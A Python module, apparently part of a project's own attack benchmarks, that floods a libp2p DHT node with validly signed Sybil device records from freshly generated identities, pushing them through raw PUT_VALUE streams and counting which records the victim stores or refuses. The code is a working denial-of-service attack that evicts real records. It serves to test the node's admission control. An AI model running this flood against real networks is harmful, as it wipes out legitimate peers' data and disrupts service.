"""DHT Sybil flood: validly signed device records from fresh keys, pushed with PUT_VALUE.

The attack: every record is a real device record (protocols/registry/record.py) of a freshly
generated key, signed by that key and offered under that key's own `/fognode/device/<peer id>`,
so the namespace validator accepts each one. The attacker connects as `identities` fresh peer
ids one after the other and from each sends up to `per_identity` such records to the victim
over raw `/fognode/kad/1.0.0` streams (a new stream after each refusal, which the victim
signals by resetting the stream), until `seconds` are up. Without admission control the
victim stores them all and, past py-libp2p's 50,000-record limit, evicts its oldest (real)
records to make room. `get_value_from` reads one key straight from the victim, so a test can
check that the real records survived.
"""
from __future__ import annotations

import os
import time
from typing import Any

import trio
import varint
from nacl.signing import SigningKey

from fognode.node.dht import DHT_PROTOCOL
from fognode.protocols.registry.record import Capabilities, make_profile, sign_record
from fognode.protocols.registry.validator import device_key
from fognode.tools.bench.attacks import HostilePeer, hostile_peer

MAX_RESPONSE = 1 << 20
PUT_TIMEOUT = 5.0


def sybil_record(now: float | None = None) -> tuple[bytes, bytes]:
    """(key, value): a valid device record of a fresh key, under its own key."""
    key = SigningKey(os.urandom(32))
    issued = int(time.time() if now is None else now)
    rec = sign_record(key, seq=1, issued=issued, expires=issued + 3600,
                      caps=Capabilities(cores=4, memory_bytes=1 << 30, os="linux"),
                      profile=make_profile("sybil", "phone", ["fl"]))
    return device_key(rec.peer_id).encode(), rec.encode()


def _put_message(key: bytes, value: bytes) -> bytes:
    from libp2p.kad_dht.pb.kademlia_pb2 import Message
    m = Message()
    m.type = Message.MessageType.PUT_VALUE
    m.key = key
    m.record.key = key
    m.record.value = value
    data = m.SerializeToString()
    return varint.encode(len(data)) + data


def add_provider_message(key: bytes, provider: bytes, addrs: list[bytes]) -> bytes:
    """An ADD_PROVIDER of `key` by the peer with id bytes `provider` (varint-framed)."""
    from libp2p.kad_dht.pb.kademlia_pb2 import Message
    m = Message()
    m.type = Message.MessageType.ADD_PROVIDER
    m.key = key
    p = m.providerPeers.add()
    p.id = provider
    p.addrs.extend(addrs)
    data = m.SerializeToString()
    return varint.encode(len(data)) + data


async def _read_message(stream: Any) -> Any:
    from libp2p.kad_dht.pb.kademlia_pb2 import Message
    from libp2p.utils.varint import read_varint_prefixed_bytes_limited
    m = Message()
    m.ParseFromString(await read_varint_prefixed_bytes_limited(stream, MAX_RESPONSE))
    return m


async def get_value_from(hp: HostilePeer, key: str) -> bytes | None:
    """GET_VALUE of `key` asked of the victim alone: its stored value, or None."""
    from libp2p.kad_dht.pb.kademlia_pb2 import Message
    stream = await hp.raw_stream(DHT_PROTOCOL)
    try:
        m = Message()
        m.type = Message.MessageType.GET_VALUE
        m.key = key.encode()
        data = m.SerializeToString()
        with trio.fail_after(PUT_TIMEOUT):
            await stream.write(varint.encode(len(data)) + data)
            resp = await _read_message(stream)
        return resp.record.value if resp.HasField("record") and resp.record.value else None
    finally:
        await stream.close()


async def _flood_from(target: str, per_identity: int, deadline: float,
                      counts: dict[str, float]) -> None:
    async with hostile_peer(target) as hp:
        counts["identities"] += 1
        stream = None
        try:
            for _ in range(per_identity):
                if trio.current_time() >= deadline:
                    return
                if stream is None:
                    stream = await hp.raw_stream(DHT_PROTOCOL)
                    counts["streams_opened"] += 1
                key, value = sybil_record()
                counts["records_sent"] += 1
                try:
                    with trio.fail_after(PUT_TIMEOUT):
                        await stream.write(_put_message(key, value))
                        await _read_message(stream)
                    counts["records_stored"] += 1
                except Exception:          # reset: refused (or the victim gave up on us)
                    counts["records_refused"] += 1
                    try:
                        await stream.reset()
                    except Exception:
                        pass
                    stream = None
        finally:
            if stream is not None:
                await stream.close()


async def attack(target: str, *, seconds: float, identities: int = 16,
                 per_identity: int = 300) -> dict[str, float]:
    """Flood `target` for at most `seconds` from up to `identities` fresh peer ids, each
    sending up to `per_identity` Sybil device records. Returns counts: identities,
    streams_opened, records_sent, records_stored (acknowledged), records_refused."""
    counts: dict[str, float] = dict.fromkeys(
        ("identities", "streams_opened", "records_sent", "records_stored", "records_refused"), 0)
    deadline = trio.current_time() + seconds
    with trio.move_on_at(deadline):
        for _ in range(identities):
            if trio.current_time() >= deadline:
                break
            await _flood_from(target, per_identity, deadline, counts)
    return counts
